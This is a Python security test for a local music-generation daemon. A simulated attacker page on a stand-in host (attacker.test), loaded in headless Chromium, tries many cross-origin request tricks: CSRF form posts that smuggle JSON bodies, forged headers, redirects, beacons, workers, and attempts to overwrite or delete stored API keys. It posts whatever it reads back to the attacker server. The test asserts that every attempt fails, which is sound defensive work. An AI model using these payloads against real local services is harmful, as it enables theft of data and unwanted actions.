"""A page of another origin, in a real Chromium, tries every kind of request on the daemon: it reads
nothing and nothing happens.
"""

import contextlib
import json
import shutil
import subprocess
import threading
import time
from collections import Counter
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import parse_qs, urlsplit

import pytest

from mididrumigen.store.sqlite import sqlite3
from tests.daemon import Daemon

CHROMIUM = next(
    filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), ""
)
FLAGS = (
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--disable-popup-blocking",
    "--host-resolver-rules=MAP attacker.test 127.0.0.1",
    "--remote-debugging-port=0",  # without it, it ends when the page has loaded
)
WITHIN_S = 60.0

ASK = '{"artist":"John Bonham","bars":1,"variations":1,"research":"never"}'
PATHS = ("health", "artists", "profile/John%20Bonham", "generations", "generation/1", "settings")
KINDS = {
    "json": "application/json",
    "text": "text/plain",
    "form": "application/x-www-form-urlencoded",
}


def attempts() -> dict[str, str]:
    """Name -> an async JavaScript function of the API's address that gives what it could read."""
    tries: dict[str, str] = {}
    for mode in ("cors", "no-cors", "same-origin"):
        for who in ("omit", "include"):
            init = f"{{mode:'{mode}',credentials:'{who}'}}"
            tries[f"fetch GET {mode} {who}"] = f"at => readAll(at, {init})"
        for method in ("POST", "PUT", "DELETE"):
            for kind, content_type in KINDS.items():
                init = (
                    f"{{method:'{method}',mode:'{mode}',credentials:'include',"
                    f"headers:{{'Content-Type':'{content_type}'}},body:ASK}}"
                )
                tries[f"fetch {method} {mode} {kind}"] = f"at => writeAll(at, {init})"
    post = "method:'POST',mode:'no-cors',headers:{'Content-Type':'text/plain'},body:ASK"
    unnamed, files = f"{post},referrerPolicy:'no-referrer'", "method:'POST',body:upload()"
    tries |= {
        "fetch GET with forged headers": "at => readAll(at, {headers:{'Origin':new URL(at).origin,"
        "'Sec-Fetch-Site':'none','Host':new URL(at).host}})",
        "fetch POST keepalive": f"at => writeAll(at, {{{post},keepalive:true}})",
        "fetch POST without referrer": f"at => writeAll(at, {{{unnamed}}})",
        "fetch POST by a redirect": f"at => reading(`/away?to=${{at}}/generate`, {{{post}}})",
        "fetch upload": f"at => reading(at + '/uploads', {{{files},mode:'no-cors'}})",
        "XMLHttpRequest GET": "at => xhr('GET', at + '/artists')",
        "XMLHttpRequest POST text": "at => xhr('POST', at + '/generate', 'text/plain')",
        "XMLHttpRequest POST json": "at => xhr('POST', at + '/generate', 'application/json')",
        "XMLHttpRequest DELETE": "at => xhr('DELETE', at + '/task/' + TASK)",
        "form POST": "at => form(at + '/generate', 'application/x-www-form-urlencoded')",
        "form POST text/plain": "at => form(at + '/generate', 'text/plain')",
        "form POST of a file": "at => form(at + '/uploads', 'multipart/form-data')",
        "form POST by a redirect": "at => form(`/away?to=${at}/generate`, 'text/plain')",
        "form POST to a new window": "at => form(at + '/generate', 'text/plain', '_blank')",
        "form POST of a sandbox": "at => sandboxed(at + '/generate')",
        "img": "at => element('img', {src: at + '/artists'})",
        "script": "at => element('script', {src: at + '/artists'})",
        "script module": "at => element('script', {src: at + '/artists', type: 'module'})",
        "stylesheet": "at => element('link', {href: at + '/artists', rel: 'stylesheet'})",
        "preload": "at => element('link', {href: at + '/artists', rel: 'preload', as: 'fetch'})",
        "object": "at => element('object', {data: at + '/artists', type: 'text/html'})",
        "iframe": "at => framed(at + '/artists')",
        "iframe by a redirect": "at => framed(`/away?to=${at}/artists`)",
        "EventSource": "at => eventSource(at + '/task/' + TASK + '/events')",
        "WebSocket": "at => webSocket(at.replace('http', 'ws') + '/health')",
        "sendBeacon": "at => beacon(at + '/generate')",
        "ping": "at => ping(at + '/generate')",
        "window": "at => opened(at + '/artists')",
        "worker": "at => worker(at + '/generate')",
        "audio": "at => element('audio', {src: at + '/generation/1/1.mid'}, 'loadedmetadata')",
    }
    return tries


CAN_READ_ITS_OWN = (
    *("fetch GET cors omit", "fetch GET no-cors include", "fetch GET same-origin include"),
    *("fetch POST cors json", "fetch PUT same-origin text", "fetch DELETE cors form"),
    *("fetch upload", "XMLHttpRequest GET", "XMLHttpRequest POST json", "XMLHttpRequest DELETE"),
    *("form POST", "form POST of a file", "form POST to a new window", "img", "script", "iframe"),
    *("script module", "stylesheet", "preload", "EventSource", "window", "worker"),
)
"""Attempts that read something where the attacker's own server is asked: they would notice."""

PAGE = """<!doctype html><title>attacker</title><body><script>
const ASK = %(ask)s, TASK = %(task)s, PATHS = %(paths)s;
const pause = ms => new Promise(done => setTimeout(done, ms));
const soon = promise => Promise.race([promise, pause(3000).then(() => '')]);
async function reading(url, init) {
  const answer = await fetch(url, init);
  return answer.type === 'opaque' ? '' : answer.status + (await answer.text());
}
async function readAll(at, init) {
  const all = await Promise.allSettled(PATHS.map(path => reading(at + '/' + path, init)));
  return all.map(one => one.value || '').join('');
}
async function writeAll(at, init) {
  const where = {PUT: ['/settings', '/consent', '/keys/openai'],
    DELETE: ['/task/' + TASK, '/keys/openai']}[init.method] || ['/generate', '/research'];
  const all = await Promise.allSettled(where.map(path => reading(at + path, init)));
  return all.map(one => one.value || '').join('');
}
function upload() {
  const data = new FormData();
  data.append('file', new File(['MThd'], 'evil.mid', {type: 'audio/midi'}));
  return data;
}
function xhr(method, url, kind) {
  return new Promise(done => {
    const request = new XMLHttpRequest();
    request.open(method, url);
    request.withCredentials = true;
    if (kind) request.setRequestHeader('Content-Type', kind);
    request.onloadend = () => done(request.status ? request.status + request.responseText : '');
    request.send(kind ? ASK : null);
  });
}
function element(tag, how, event = 'load') {
  return new Promise(done => {
    const it = Object.assign(document.createElement(tag), how);
    it.addEventListener(event, () => done(tag + ' loaded'));
    it.onerror = () => done('');
    document.body.append(it);
  });
}
function insideOf(view) {
  try { return view.document.body.innerText || view.document.body.innerHTML; } catch { return ''; }
}
async function inFrame(start) {
  const frame = document.createElement('iframe');
  frame.name = 'frame' + Math.random();
  document.body.append(frame);
  const loaded = new Promise(done => frame.addEventListener('load', done));
  start(frame);
  await loaded; await pause(300);
  return insideOf(frame.contentWindow);
}
const framed = url => inFrame(frame => { frame.src = url; });
async function form(action, enctype, target) {
  const it = Object.assign(document.createElement('form'), {action, enctype, method: 'POST'});
  const field = document.createElement('input');
  if (enctype === 'multipart/form-data') {
    field.type = 'file'; field.name = 'file';
    const files = new DataTransfer();
    files.items.add(new File(['MThd'], 'evil.mid', {type: 'audio/midi'}));
    field.files = files.files;
  } else {  // a JSON body, made of a name and a value
    field.name = ASK.slice(0, -1) + ',"player":"'; field.value = '"}';
  }
  it.append(field); document.body.append(it);
  if (!target) return inFrame(frame => { it.target = frame.name; it.submit(); });
  it.target = 'window' + Math.random();
  const view = window.open('about:blank', it.target);
  it.submit();
  await pause(1500);
  return insideOf(view);
}
async function sandboxed(action) {
  const frame = document.createElement('iframe');
  frame.sandbox = 'allow-scripts allow-forms allow-popups';
  frame.srcdoc = `<form method=POST enctype=text/plain action="${action}"><input name='${ASK}'>` +
    '</form><script>document.forms[0].submit()</' + 'script>';
  document.body.append(frame);
  await pause(1000);
  return insideOf(frame.contentWindow);
}
function eventSource(url) {
  return new Promise(done => {
    const source = new EventSource(url, {withCredentials: true});
    source.onopen = source.onmessage = () => { source.close(); done('events'); };
    source.onerror = () => { source.close(); done(''); };
  });
}
function webSocket(url) {
  return new Promise(done => {
    const socket = new WebSocket(url);
    socket.onopen = () => done('open');
    socket.onerror = () => done('');
  });
}
async function beacon(url) {
  navigator.sendBeacon(url, ASK);
  navigator.sendBeacon(url, new Blob([ASK], {type: 'text/plain'}));
  navigator.sendBeacon(url.replace('generate', 'uploads'), upload());
  try { navigator.sendBeacon(url, new Blob([ASK], {type: 'application/json'})); } catch {}
  await pause(300);
  return '';
}
async function ping(url) {
  const link = Object.assign(document.createElement('a'), {href: '#', ping: url});
  document.body.append(link); link.click();
  await pause(300);
  return '';
}
async function opened(url) {
  const view = window.open(url);
  await pause(1500);
  return insideOf(view);
}
function worker(url) {
  const code = `fetch('${url}', {method: 'POST', body: '${ASK}'}).then(
    async answer => postMessage(answer.status + await answer.text()), () => postMessage(''))`;
  return new Promise(done => {
    const it = new Worker(URL.createObjectURL(new Blob([code])));
    it.onmessage = message => done(message.data);
  });
}
const attempts = {%(attempts)s};
async function all(page, at) {
  const left = Object.entries(attempts).reverse();  // the longest first
  const one = async () => {
    for (let next; (next = left.shift());) {
      let read = '';
      try { read = await soon(next[1](at)); } catch {}
      await fetch('/report', {method: 'POST', body: JSON.stringify({page, name: next[0], read})});
    }
  };
  await Promise.all([one(), one(), one(), one(), one(), one()]);
}
const where = new URLSearchParams(location.search);
all(where.get('page'), where.get('at'));
</script>"""

ANSWERS = {
    "image": ("image/svg+xml", '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"/>'),
    "script": ("text/javascript", "0"),
    "style": ("text/css", "b{}"),
    "document": ("text/html", "<body>mine</body>"),
    "iframe": ("text/html", "<body>mine</body>"),
}


class Attacker(BaseHTTPRequestHandler):
    """The attacker's server: the page, its reports, redirects, and an API of its own."""

    server: "AttackerServer"

    def do_GET(self) -> None:
        path, query = urlsplit(self.path).path, parse_qs(urlsplit(self.path).query)
        length = int(self.headers.get("Content-Length", 0))
        body = self.rfile.read(length)
        if path == "/report":
            report = json.loads(body)
            self.server.reports[report["page"], report["name"]] = report["read"]
            self._answer("text/plain", "")
        elif path == "/away":
            self.send_response(307)
            self.send_header("Location", query["to"][0])
            self.send_header("Content-Length", "0")
            self.end_headers()
        elif path == "/top":
            frames = (
                f'<iframe src="http://{host}:{self.server.server_port}/page?page={page}&at={at}">'
                f"</iframe>"
                for page, (host, at) in self.server.pages.items()
            )
            self._answer("text/html", f"<!doctype html><body>{''.join(frames)}")
        elif path == "/page":
            self._answer("text/html", self.server.page)
        elif "text/event-stream" in self.headers.get("Accept", ""):
            self._answer("text/event-stream", "data: mine\n\n")
        else:
            kind = ANSWERS.get(self.headers.get("Sec-Fetch-Dest", ""), ("application/json", "{}"))
            self._answer(*kind)

    do_POST = do_PUT = do_DELETE = do_GET

    def _answer(self, content_type: str, text: str) -> None:
        with contextlib.suppress(ConnectionError):
            self.send_response(200)
            self.send_header("Content-Type", content_type)
            self.send_header("Content-Length", str(len(text.encode())))
            self.end_headers()
            self.wfile.write(text.encode())

    def log_message(self, *_: object) -> None:
        pass


class AttackerServer(ThreadingHTTPServer):
    """Where the attacker's pages come from."""

    daemon_threads = True

    def __init__(self, task_id: str) -> None:
        super().__init__(("127.0.0.1", 0), Attacker)
        self.reports: dict[tuple[str, str], str] = {}
        self.pages: dict[str, tuple[str, str]] = {}
        """Name -> (host of the page, API that it asks)."""
        tries = ",".join(f"{json.dumps(name)}: {code}" for name, code in attempts().items())
        self.page = PAGE % {
            "ask": json.dumps(ASK),
            "task": json.dumps(task_id),
            "paths": json.dumps(PATHS),
            "attempts": tries,
        }


@contextlib.contextmanager
def attacker(task_id: str) -> Iterator[AttackerServer]:
    """The attacker's server at another port."""
    server = AttackerServer(task_id)
    thread = threading.Thread(target=server.serve_forever, args=(0.05,))
    thread.start()
    try:
        yield server
    finally:
        server.shutdown()
        thread.join()
        server.server_close()


@contextlib.contextmanager
def browser(folder: Path, url: str) -> Iterator["subprocess.Popen[bytes]"]:
    """A Chromium with a new profile at a page."""
    with open(folder.with_suffix(".log"), "wb") as log:
        process = subprocess.Popen(
            [CHROMIUM, *FLAGS, f"--user-data-dir={folder}", url], stdout=log, stderr=log
        )
        try:
            yield process
        finally:
            process.kill()
            process.wait()


def state(daemon: Daemon) -> dict[str, list[str]]:
    """All that a request could change: the database, uploads, takes."""
    with contextlib.closing(sqlite3.connect(daemon.home / "mididrumigen.db")) as db:
        # Not iterdump: pysqlite3 has none.
        tables = db.execute("SELECT name, sql FROM sqlite_schema WHERE type = 'table'").fetchall()
        rows = [
            f"{name}: {row}"
            for name, sql in tables
            if not sql.startswith("CREATE VIRTUAL")  # its content is in tables of its own
            for row in db.execute(f'SELECT * FROM "{name}"')
        ]
        assert rows
    return {
        "rows": rows,
        "uploads": sorted(map(str, (daemon.home / "uploads").rglob("*"))),
        "takes": sorted(map(str, daemon.out_dir.rglob("*"))),
        "settings": [(daemon.home / "config.toml").read_text("utf-8")],
    }


@pytest.mark.skipif(not CHROMIUM, reason="no Chromium here: chromium or google-chrome runs this")
def test_no_page_of_another_origin_gets_through(tmp_path: Path) -> None:
    with Daemon(tmp_path / "home") as daemon:
        with daemon.client() as client:
            assert client.post("/generate?wait=20", content=ASK).status_code == 415
            played = client.post("/generate?wait=20", json=json.loads(ASK))
        assert played.status_code == 200, played.text  # there is something to read and to steal
        with contextlib.closing(sqlite3.connect(daemon.home / "mididrumigen.db")) as db:
            task_id = db.execute("SELECT task_id FROM jobs").fetchone()[0]
        before = state(daemon)

        with attacker(task_id) as server:
            own, port = server.server_port, daemon.port
            server.pages = {
                "own": ("127.0.0.1", f"http://127.0.0.1:{own}/api/v1"),
                "same site": ("127.0.0.1", f"http://127.0.0.1:{port}/api/v1"),
                "other site": ("localhost", f"http://127.0.0.1:{port}/api/v1"),
                "other name": ("127.0.0.1", f"http://localhost:{port}/api/v1"),
                "foreign name": ("attacker.test", f"http://attacker.test:{port}/api/v1"),
            }
            wanted = {(page, name) for page in server.pages for name in attempts()}
            with browser(tmp_path / "browser", f"http://127.0.0.1:{own}/top"):
                until = time.monotonic() + WITHIN_S
                while time.monotonic() < until and not wanted <= server.reports.keys():
                    time.sleep(0.05)
                time.sleep(0.3)  # what is still on its way
            reports = dict(server.reports)

        assert wanted - reports.keys() == set()
        read = {name for page, name in reports if page == "own" and reports[page, name]}
        assert set(CAN_READ_ITS_OWN) - read == set()
        assert {key: text for key, text in reports.items() if text and key[0] != "own"} == {}
        assert state(daemon) == before

        refused = Counter(line["event"] for line in daemon.log() if "refused" in line["event"])
        for code in ("foreign_origin", "foreign_host"):
            for method in ("GET", "POST", "OPTIONS"):
                assert refused[f"refused: {code} {method}"] > 0, refused
        assert refused["refused: foreign_origin POST"] > 3 * 20, refused
        assert not [line for line in daemon.log() if line["level"] == "error"]
        # The same from a program still works: it was the page that was refused.
        with daemon.client() as client:
            again = client.post("/generate?wait=20", json=json.loads(ASK))
        assert again.status_code == 200, again.text
        assert state(daemon) != before
